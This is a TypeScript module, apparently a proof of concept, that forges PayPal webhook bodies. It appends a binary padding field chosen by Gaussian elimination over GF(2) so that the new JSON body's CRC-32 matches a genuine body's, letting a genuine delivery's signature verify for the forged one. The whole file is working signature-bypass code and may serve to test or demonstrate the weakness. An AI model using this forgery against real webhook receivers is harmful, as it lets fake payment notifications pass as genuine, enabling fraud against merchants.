// What the PayPal webhook issue describes, done for real: a new JSON body whose CRC-32 equals a genuine body's, so a
// genuine delivery's signature (over transmission id, time, webhook id and the body's CRC-32) verifies for it too.
// CRC-32 is affine over GF(2) for messages of one length, so flipping chosen bits of a padding field reaches any
// CRC: each of the padding's characters is '0' or '1' (one bit apart), and Gaussian elimination picks which.
import { crc32 } from 'node:zlib';

const PADDING = 64;

/** `body` (a JSON object's text) with a `"note"` padding field added so that its CRC-32 equals `target`'s. */
export function withCrc32Of(target: string, body: string): string {
  const wanted = crc32(Buffer.from(target, 'utf8')) >>> 0;
  const make = (bits: boolean[]) => `${body.slice(0, -1)},"note":"${bits.map((bit) => (bit ? '1' : '0')).join('')}"}`;
  const zeros = Array.from({ length: PADDING }, () => false);
  const base = crc32(Buffer.from(make(zeros), 'utf8')) >>> 0;
  // Effect of flipping each padding character alone; combined effects XOR together (same length, so affine).
  const effects = zeros.map((_, i) => {
    const one = zeros.slice();
    one[i] = true;
    return (crc32(Buffer.from(make(one), 'utf8')) ^ base) >>> 0;
  });
  const flips = solve(effects, (base ^ wanted) >>> 0);
  const forged = make(zeros.map((_, i) => flips.has(i)));
  if (crc32(Buffer.from(forged, 'utf8')) >>> 0 !== wanted) throw new Error('no CRC-32 match found');
  return forged;
}

/** A set of indexes whose `vectors` XOR to `goal` (32-bit vectors over GF(2)). */
function solve(vectors: number[], goal: number): Set<number> {
  // Each basis row: a 32-bit value with a leading bit, and which input vectors make it up.
  const basis: { value: number; uses: Set<number> }[] = [];
  vectors.forEach((vector, index) => {
    let row = { value: vector, uses: new Set([index]) };
    for (const b of basis) {
      if ((row.value ^ b.value) >>> 0 < row.value)
        row = { value: (row.value ^ b.value) >>> 0, uses: xorSets(row.uses, b.uses) };
    }
    if (row.value !== 0) {
      basis.push(row);
      basis.sort((a, b) => b.value - a.value);
    }
  });
  let rest = { value: goal, uses: new Set<number>() };
  for (const b of basis) {
    if ((rest.value ^ b.value) >>> 0 < rest.value)
      rest = { value: (rest.value ^ b.value) >>> 0, uses: xorSets(rest.uses, b.uses) };
  }
  if (rest.value !== 0) throw new Error('padding cannot reach the CRC-32');
  return rest.uses;
}

function xorSets(a: Set<number>, b: Set<number>): Set<number> {
  const out = new Set(a);
  for (const item of b) {
    if (out.has(item)) out.delete(item);
    else out.add(item);
  }
  return out;
}
